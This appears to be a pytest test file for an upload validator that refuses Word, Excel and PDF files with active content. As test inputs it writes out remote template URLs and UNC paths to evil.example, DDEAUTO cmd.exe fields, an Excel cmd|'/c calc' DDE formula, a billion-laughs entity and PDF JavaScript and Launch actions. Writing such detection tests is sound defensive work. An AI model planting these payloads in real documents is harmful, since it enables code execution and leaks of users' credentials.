"""Files that fetch or start something when they are opened are refused, wherever in the file it stands."""

import io
from typing import Any

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from backend.attachments import office_active
from backend.attachments.kinds import FileKind
from tests import files
from tests.unit.test_attachment_files import accept, refusal

BOTH = pytest.mark.parametrize("strip", [True, False])
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def relation(target: str, kind: str = "attachedTemplate", mode: str = 'TargetMode="External"') -> bytes:
    """The relationships of a part."""
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    one = f'<Relationship Id="x1" Type="{RELATIONS}/{kind}" Target="{target}" {mode}/>'
    return f'<Relationships xmlns="{package}">{one}</Relationships>'.encode()


def word_with(xml: str) -> bytes:
    """A Word file with more at its end."""
    return files.rewritten(files.word(), {"word/document.xml": ("<w:sectPr", f"{xml}<w:sectPr")})


def field(*codes: str) -> str:
    """A field whose code is split over runs."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{t}"/></w:r>' for t in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


@BOTH
@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/t.dotm",
        "file://evil.example/share/t.dotm",
        "file:///\\\\evil.example\\share\\t.dotm",
        "file:////evil.example/share/t.dotm",
        "file:%2F%2Fevil.example/t.dotm",
        "\\\\evil.example\\share\\t.dotm",
        "\\\\evil.example@SSL\\DavWWWRoot\\t.dotm",
        "//evil.example/t.dotm",
        "mhtml:x",
    ],
)
def test_a_template_from_elsewhere_is_refused(target: str, strip: bool) -> None:
    name = "word/_rels/settings.xml.rels"
    assert "外部" in refusal(files.rewritten(files.word(), {}, {name: relation(target)}), FileKind.DOCX, strip=strip)


@pytest.mark.parametrize("mode", ['TargetMode="external"', ""])
def test_the_way_in_which_a_relationship_is_written_does_not_matter(mode: str) -> None:
    capitals = {"word/_rels/settings.xml.RELS": relation("\\\\evil\\t.dotm", mode=mode)}
    assert "外部" in refusal(files.rewritten(files.word(), {}, capitals), FileKind.DOCX)
    page = {"word/_rels/x.xml.rels": relation("a.html", "aFChunk", "")}
    assert "外部" in refusal(files.rewritten(files.word(), {}, page), FileKind.DOCX)


def test_a_template_on_ones_own_disk_stays_and_loses_its_path_with_the_metadata() -> None:
    for target in ("file:///C:\\Users\\x\\Normal.dotm", "Normal.dotm", "file:///Users/x/Normal.dotm", "D:\\x\\a.dotm"):
        content = files.rewritten(files.word(), {}, {"word/_rels/settings.xml.rels": relation(target)})
        assert target.encode() in files.unpacked(accept(content, FileKind.DOCX, strip=False))
        kept = files.parts_of(accept(content, FileKind.DOCX))["word/_rels/settings.xml.rels"]
        assert b"Users" not in kept and b".dotm" in kept


@BOTH
@pytest.mark.parametrize(
    "xml",
    [
        field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        field(" D", "DEA", "UTO cmd x"),
        field('includepicture "http://evil.example/x.png" \\d'),
        field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"'),
        '<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>',
        # The name of the field as ordinary text, and as what another field shows.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>DDEAUTO cmd x</w:t></w:r></w:p>',
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>',
        "<w:p><w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r></w:p>",
        field('IF 1 = 1 "" ""').replace("</w:p>", "") + field("LINK Excel.Sheet x") + "</w:p>",
    ],
)
def test_a_field_that_fetches_is_refused(xml: str, strip: bool) -> None:
    assert "域" in refusal(word_with(xml), FileKind.DOCX, strip=strip)


def test_fields_of_pages_dates_and_links_are_taken() -> None:
    fields = field("PAGE \\* MERGEFORMAT") + field('TOC \\o "1-3"') + field(' HYPERLINK "https://example.org/dde" ')
    text = "<w:p><w:r><w:t>LINK 与 DDE 只是文字</w:t></w:r></w:p>"
    assert "只是文字".encode() in files.unpacked(accept(word_with(fields + text), FileKind.DOCX))


@BOTH
@pytest.mark.parametrize(
    ("name", "xml"),
    [
        ("xl/externalLinks/externalLink1.xml", f'<externalLink {SHEETS}><ddeLink ddeService="cmd"/></externalLink>'),
        ("xl/connections.xml", f'<connections {SHEETS}><connection id="1"><webPr/></connection></connections>'),
        ("xl/worksheets/s9.xml", f"<worksheet {SHEETS}><c><f>cmd|'/c calc'!A0</f></c></worksheet>"),
        ("xl/worksheets/s9.xml", f'<worksheet {SHEETS}><c><f>_xlfn.WEBSERVICE("x")</f></c></worksheet>'),
        ("xl/drawings/v.vml", '<xml xmlns:v="urn:v"><v:imagedata src="http://evil.example/x.png"/></xml>'),
        ("xl/media/x.svg", '<svg xmlns="http://www.w3.org/2000/svg"><image href="//evil.example/x"/></svg>'),
    ],
)
def test_a_sheet_that_asks_others_is_refused(name: str, xml: str, strip: bool) -> None:
    content = files.rewritten(files.excel(), {}, {name: xml.encode()})
    assert "取用" in refusal(content, FileKind.XLSX, strip=strip) or "外部" in refusal(
        content, FileKind.XLSX, strip=strip
    )


def test_a_part_is_read_as_what_the_file_says_of_it_not_by_its_ending() -> None:
    types = "</Types>", '<Override PartName="/word/x.bin" ContentType="application/x.main+xml"/></Types>'
    hidden = b'<w:p xmlns:w="urn:w"><w:fldSimple w:instr="DDEAUTO cmd x"/></w:p>'
    content = files.rewritten(files.word(), {"[Content_Types].xml": types}, {"word/x.bin": hidden})
    assert "域" in refusal(content, FileKind.DOCX)


def test_a_document_type_is_refused_also_where_nothing_is_stripped() -> None:
    laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><w:document'
    bomb = files.rewritten(files.word(), {"word/document.xml": ("<w:document", laughs)})
    assert "结构" in refusal(bomb, FileKind.DOCX, strip=False)


def test_bars_in_names_and_texts_are_no_commands() -> None:
    for formula in ('"a|b"&amp;A1', "'一|二'!A1", "SUM(A1:A3)"):
        office_active.check_part(
            io.BytesIO(f"<!-- x --><c {SHEETS}><f>{formula}</f></c>".encode()), office_active.Budget()
        )


def entries(**values: PdfObject) -> DictionaryObject:
    """A dictionary of a PDF."""
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})


def action(kind: str, **more: PdfObject) -> DictionaryObject:
    """An action of a kind."""
    return entries(S=NameObject(f"/{kind}"), **more)


SCRIPT = action("JavaScript", JS=TextStringObject("app.alert(1)"))
GO = TextStringObject("x")


@BOTH
@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": action("GoTo", D=GO, Next=SCRIPT)},
        {"OpenAction": action("GoTo", D=GO, Next=ArrayObject([action("GoTo", D=GO), SCRIPT]))},
        {"OpenAction": action("GoToR", F=TextStringObject("\\\\evil\\x.pdf"))},
        {"OpenAction": action("URI", URI=TextStringObject("https://evil.example"))},
        {"OpenAction": action("GoTo", D=GO, Next=action("URI", URI=TextStringObject("https://evil.example")))},
        {"AA": entries(WC=action("URI", URI=TextStringObject("https://evil.example")))},
        {"AcroForm": entries(Fields=ArrayObject(), XFA=TextStringObject("<script/>"))},
        {"AcroForm": entries(Fields=ArrayObject([entries(FT=NameObject("/Tx"), AA=entries(C=SCRIPT))]))},
        {"Outlines": entries(First=entries(A=action("Launch")))},
        {"Unheard": ArrayObject([ArrayObject([entries(A=SCRIPT)])])},
        {"X": action("URI", URI=TextStringObject(" JavaScript:alert(1)"))},
    ],
)
def test_a_pdf_that_runs_or_fetches_is_refused(root: dict[str, Any], strip: bool) -> None:
    assert "脚本" in refusal(files.pdf(**root), FileKind.PDF, strip=strip)


@BOTH
def test_a_pdf_with_another_file_or_the_content_of_one_is_refused(strip: bool) -> None:
    inside = StreamObject()
    inside.set_data(b"MZ")
    specification = entries(F=TextStringObject("x.exe"), EF=entries(F=ByteStringObject(b"")))
    assert "嵌入" in refusal(files.pdf(AF=ArrayObject([specification])), FileKind.PDF, strip=strip)
    writer = PdfWriter(clone_from=io.BytesIO(files.pdf()))
    inside[NameObject("/F")] = TextStringObject("\\\\evil\\x")
    writer.root_object[NameObject("/X")] = writer._add_object(inside)
    target = io.BytesIO()
    writer.write(target)
    assert "其他文件" in refusal(target.getvalue(), FileKind.PDF, strip=strip)


@BOTH
def test_the_name_of_an_action_may_stand_elsewhere(strip: bool) -> None:
    writer = PdfWriter(clone_from=io.BytesIO(files.pdf()))
    name = writer._add_object(NameObject("/Launch"))
    writer.root_object[NameObject("/X")] = writer._add_object(DictionaryObject({NameObject("/S"): name}))
    target = io.BytesIO()
    writer.write(target)
    assert "脚本" in refusal(target.getvalue(), FileKind.PDF, strip=strip)


@BOTH
def test_ways_within_a_pdf_and_links_to_click_are_taken(strip: bool) -> None:
    link = action("URI", URI=TextStringObject("https://example.org"))
    content = files.pdf(OpenAction=action("GoTo", D=GO), Outlines=entries(First=entries(A=link)))
    assert b"https://example.org" in files.unpacked(accept(content, FileKind.PDF, strip=strip))
